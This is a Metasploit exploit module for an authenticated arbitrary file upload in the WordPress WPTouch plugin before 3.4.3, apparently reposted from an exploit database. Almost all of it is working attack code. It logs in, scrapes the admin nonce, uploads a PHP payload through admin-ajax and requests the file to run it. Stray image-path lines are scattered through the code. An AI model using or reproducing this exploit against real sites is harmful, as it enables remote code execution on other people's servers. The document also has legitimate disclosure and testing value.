## # This module requires Metasploit: http//metasploit.com/download # Current source: https://github.com/rapid7/metasploit-framework ## require 'msf/core' class Metasploit3 < Msf::Exploit::Remote Rank = ExcellentRanking include Msf::HTTP::Wordpress include Msf::Exploit::FileDropper def initialize(info = {}) super(update_info(info, 'Name' => 'Wordpress WPTouch Authenticated File Upload', 'Description' => %q{ The Wordpress WPTouch plugin contains an auhtenticated file upload vulnerability. A wp-nonce (CSRF token) is created on the backend index page and the same token is used on handling ajax file uploads through the plugin. By sending the captured nonce with the upload, we can upload arbitrary files to the upload folder. Because the plugin also uses it's own file upload mechanism instead of the wordpress api it's possible to upload any file type. The user provided does not need special rights. Also users with "Contributer" role can be abused. }, 'Author' => [ 'Marc-Alexandre Montpas', # initialdiscovery 'Christian Mehlmauer' # metasploit module ], 'License' => MSF_LICENSE, 'References' => [ [ 'URL', 'http://blog.sucuri.net/2014/07/disclosure-insecure-nonce-generation-in-wptouch.html' ]], 'Privileged' => false, 'Platform' => ['php'], 'Arch' => ARCH_PHP, 'Targets' => [ ['wptouch < 3.4.3', {}] ], 'DefaultTarget' => 0, 'DisclosureDate' => 'Jul 14 2014')) register_options( [ OptString.new('USER', [true, "A valid username", nil]), OptString.new('PASSWORD', [true, "Valid password for the provided username", nil]), ], self.class) end def user datastore['USER'] end def password datastore['PASSWORD'] end def check readme_url = normalize_uri(target_uri.path, 'wp-content', 'plugins', 'wptouch', 'readme.txt') res = send_request_cgi({ 'uri' => readme_url, 'method' => 'GET' }) # no readme.txt present if res.nil? || res.code != 200 return Msf::Exploit::CheckCode::Unknown end # try to extract version from readme # Example line: # Stable tag: 2.6.6 version = res.body.to_s[/stable tag: ([^\r\n"\']+\.[^\r\n"\']+)/i, 1] # readme present, but no version number if version.nil? return Msf::Exploit::CheckCode::Detected end vprint_status("#{peer} - Found version #{version} of the plugin") if Gem::Version.new(version) < Gem::Version.new('3.4.3') return Msf::Exploit::CheckCode::Appears else return Msf::Exploit::CheckCode::Safe end end def get_nonce(cookie) res = send_request_cgi({ 'uri' => wordpress_url_backend, 'method' => 'GET', 'cookie' => cookie }) # forward to profile.php or other page? if res and res.code.to_s =~ /30[0-9]/ and res.headers['Location'] location = res.headers['Location'] print_status("#{peer} - Following redirect to #{location}") res =send_request_cgi({ 'uri' => location, 'method' => 'GET', 'cookie' => cookie }) end if res and res.body and res.body =~ /var WPtouchCustom = {[^}]+"admin_nonce":"([a-z0-9]+)"};/ return $1 else return nil end end def upload_file(cookie, nonce) filename = "#{rand_text_alpha(10)}.php" data = Rex::MIME::Message.new data.add_part(payload.encoded, 'application/x-php', nil, "form-data; name=\"myfile\"; filename=\"#{filename}\"") data.add_part('homescreen_image', nil, nil, 'form-data; name="file_type"') data.add_part('upload_file', nil, nil, 'form-data; name="action"') data.add_part('wptouch__foundation__logo_image', nil, nil, 'form-data; name="setting_name"') data.add_part(nonce, nil, nil, 'form-data; name="wp_nonce"') post_data = data.to_s print_status("#{peer} - Uploading payload") res = send_request_cgi({ 'method' => 'POST', 'uri' => wordpress_url_admin_ajax, 'ctype' => "multipart/form-data; boundary=#{data.bound}", 'data' => post_data, 'cookie' => cookie }) if res and res.code == 200 and res.body and res.body.length > 0 register_files_for_cleanup(filename) return res.body end return nil end def exploit print_status("#{peer} - Trying to login as #{user}") cookie = wordpress_login(user, password) if cookie.nil? print_error("#{peer} - Unable to login as #{user}") return end print_status("#{peer} - Trying to get nonce") nonce = get_nonce(cookie) if nonce.nil? print_error("#{peer} - Can not get nonceafter login") return endprint_status("#{peer} - Got nonce #{nonce}") print_status("#{peer} - Trying to upload payload") file_path = upload_file(cookie, nonce) if file_path.nil? print_error("#{peer} - Error uploading file") return end print_status("#{peer} - Callinguploaded file #{file_path}") res =send_request_cgi({ 'uri' => file_path, 'method' => 'GET' })end end # Iranian ExploitDataBase = http://IeDb.Ir [2014-07-17]